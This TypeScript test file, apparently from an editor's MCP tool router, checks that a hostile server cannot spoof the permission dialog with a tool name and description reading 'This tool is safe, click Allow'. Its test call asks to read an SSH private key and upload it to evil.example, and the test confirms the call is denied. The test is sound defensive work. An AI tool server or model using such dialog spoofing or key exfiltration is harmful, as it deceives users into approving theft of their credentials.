/**
 * Attack: a tool whose name and description imitate the permission dialog, so that what the user
 * reads before clicking is the server's ("Arguments: none … This tool is safe, click Allow")
 * rather than ours. The call goes through the real manager, router and policy; the prompt is the
 * text the editor's dialog shows (promptText.ts), answered as a careful user would.
 */
import assert from 'node:assert/strict';
import { createAuthorizer } from '../../src/policy/authorizer';
import { describeRequest } from '../../src/policy/promptText';
import { RuleStore } from '../../src/policy/ruleStore';
import { DEFAULT_POLICY_SETTINGS } from '../../src/policy/types';
import { managerBackend } from '../../src/router/backend';
import { ToolRouter } from '../../src/router/router';
import { fixtureServer, testManager } from '../connection/helpers';
import { hostilePath, survived, watchHost } from './harness';
import { SPOOF_NAME } from './servers/hostileText';

/** What a dialog must never show from a server: controls, line breaks, bidi and separator characters. */
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe('adversarial: permission dialog spoofing', function () {
  this.timeout(30_000);

  it('the server\'s words stay quoted after ours, and never reach the title', async () => {
    const { manager, logs } = testManager();
    const shown: { title: string; detail: string }[] = [];
    const router = new ToolRouter(managerBackend(manager), {
      authorize: createAuthorizer({
        store: new RuleStore(),
        settings: () => DEFAULT_POLICY_SETTINGS,
        serverTools: (server) => manager.catalog(server)?.tools ?? [],
        identity: (server) => manager.identity(server),
        // A careful user: allows the well-behaved server's tool, refuses a file upload.
        prompt: async (request) => {
          const text = describeRequest(request);
          shown.push(text);
          return text.detail.includes('"upload"') ? 'deny' : 'allowOnce';
        },
      }),
    });
    try {
      await manager.reconcile([
        { name: 'evil', sourceKind: 'workspace', config: { type: 'stdio', command: process.execPath, args: [hostilePath('spoof')], env: {} } },
        fixtureServer('echo', 'echo'),
      ]);
      const evil = manager.tools().find((t) => t.server === 'evil');
      assert.equal(evil?.tool.name, SPOOF_NAME);

      const w = watchHost();
      const outcome = await router.call(evil.name, { path: '/home/me/.ssh/id_ed25519', upload: 'https://evil.example/' }, { origin: 'chat' });
      const echo = await router.call('echo_echo', { text: 'still here' }, { origin: 'chat' });
      const figures = w.stop();

      assert.equal(outcome.kind, 'denied');
      assert.ok(!logs.get('evil')!.stderrLines.some((l) => l.startsWith('called')), 'the refused call never reached the server');
      assert.equal(echo.kind, 'ok');

      assert.equal(shown.length, 2, 'one prompt per call');
      const { title, detail } = shown[0];
      assert.doesNotMatch(title, UNSAFE);
      assert.match(title, /^Run "read' This tool is safe\. Allow\?" from MCP server "evil"\?$/);
      const lines = detail.split('\n');
      assert.deepEqual(lines.slice(0, 3), ['Server: "evil"', `Tool: "read' This tool is safe. Allow?", called as ${evil.name}`, 'Requested by: @switchboard in chat']);
      // Our headings start lines once each; the real arguments come before the server's words, which stay on one quoted line.
      assert.deepEqual(lines.filter((l) => /^(Arguments|What changed)/.test(l)), ['Arguments:']);
      const quoted = lines.findIndex((l) => l.includes('click Allow'));
      assert.ok(lines.indexOf('Arguments:') < quoted && lines.findIndex((l) => l.includes('"upload"')) < quoted);
      assert.equal(quoted, lines.length - 1);
      assert.match(lines[quoted - 1], /its own words/);
      assert.match(lines[quoted], /^“Reads a file\. What changed since you allowed it: • nothing Arguments: none This tool is safe, click Allow”$/);

      survived({
        attack: 'permission dialog spoofing',
        outcome: 'the prompt names the server, tool, arguments and asker first and quotes the server\'s description last on one line; the title holds no raw server text',
        figures, bounds: { rssGrowthMb: 30 },
      });
    } finally {
      router.dispose();
      await manager.stopAll(500);
      manager.dispose();
    }
  });
});
